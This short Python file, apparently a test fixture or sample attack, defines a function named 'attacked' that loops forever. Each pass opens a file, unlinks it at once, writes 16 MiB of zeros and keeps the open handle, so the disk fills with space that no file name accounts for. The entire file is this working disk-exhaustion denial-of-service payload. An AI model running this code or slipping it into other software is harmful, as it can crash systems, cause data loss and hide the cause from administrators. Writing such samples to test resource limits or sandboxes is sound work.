"""Fills the disk with files that have no name."""

import os


def attacked(x):
    kept = []
    while True:
        file = open("file", "wb")
        os.unlink("file")
        file.write(bytes(2**24))
        file.flush()
        kept.append(file)
